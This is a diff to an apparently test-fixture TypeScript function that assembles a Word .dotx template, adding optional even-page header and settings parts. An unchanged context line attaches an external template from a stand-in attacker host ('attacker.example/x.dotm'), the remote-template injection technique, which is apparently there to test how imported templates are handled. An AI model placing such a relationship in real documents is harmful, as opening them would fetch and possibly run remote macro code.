@@ -37,6 +37,8 @@ export function dotx(
     /** More relationships of the header. */
     headerRels?: string;
     mainType?: string;
+    /** Whether pages with even numbers have a head of their own. */
+    hasEven?: boolean;
     more?: Record<string, Uint8Array>;
   } = {},
 ): Uint8Array {
@@ -45,23 +47,28 @@ export function dotx(
     header = `<w:p><w:r><w:t>ACME Space</w:t></w:r>${drawing('rId1')}</w:p>`,
     headerRels = rel('rId1', 'image', 'media/logo.png'),
     mainType = `${OFFICE}.template.main+xml`,
+    hasEven = false,
     more = {},
   } = given;
   const parts: Record<string, string> = {
     '[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${mainType}"/></Types>`,
     '_rels/.rels': rels(rel('rId1', 'officeDocument', 'word/document.xml')),
-    'word/document.xml': `<w:document ${W} ${R}><w:body><w:p/><w:sectPr><w:headerReference w:type="default" r:id="rId2"/><w:footerReference w:type="default" r:id="rId3"/><w:headerReference w:type="first" r:id="rId4"/><w:pgMar w:top="2000" w:bottom="1500" w:left="1500" w:right="1500" w:header="700" w:footer="700"/><w:titlePg/></w:sectPr></w:body></w:document>`,
+    'word/document.xml': `<w:document ${W} ${R}><w:body><w:p/><w:sectPr><w:headerReference w:type="default" r:id="rId2"/><w:footerReference w:type="default" r:id="rId3"/><w:headerReference w:type="first" r:id="rId4"/><w:headerReference w:type="even" r:id="rId6"/><w:pgMar w:top="2000" w:bottom="1500" w:left="1500" w:right="1500" w:header="700" w:footer="700"/><w:titlePg/></w:sectPr></w:body></w:document>`,
     'word/_rels/document.xml.rels': rels(
       rel('rId1', 'styles', 'styles.xml'),
       rel('rId2', 'header', 'header1.xml'),
       rel('rId3', 'footer', '/word/footer1.xml'),
       rel('rId4', 'header', 'header2.xml'),
+      rel('rId6', 'header', 'header3.xml'),
+      ...(hasEven ? [rel('rId7', 'settings', 'settings.xml')] : []),
       rel('rId5', 'attachedTemplate', 'http://attacker.example/x.dotm', ' TargetMode="External"'),
     ),
     'word/styles.xml': `<w:styles ${W}><w:docDefaults><w:rPrDefault><w:rPr><w:sz w:val="23"/></w:rPr></w:rPrDefault></w:docDefaults>${styles}</w:styles>`,
     'word/header1.xml': `<w:hdr ${W} ${R}>${header}</w:hdr>`,
     'word/_rels/header1.xml.rels': rels(headerRels),
     'word/header2.xml': `<w:hdr ${W} ${R}><w:p><w:r><w:t>Cover</w:t></w:r></w:p></w:hdr>`,
+    'word/header3.xml': `<w:hdr ${W} ${R}><w:p><w:r><w:t>Even</w:t></w:r></w:p></w:hdr>`,
+    'word/settings.xml': `<w:settings ${W}><w:evenAndOddHeaders/></w:settings>`,
     'word/footer1.xml': `<w:ftr ${W} ${R}><w:p><w:r><w:t xml:space="preserve">ACME, page </w:t></w:r><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p></w:ftr>`,
   };
   const bytes = Object.fromEntries(Object.entries(parts).map(([path, text]) => [path, strToU8(text)]));
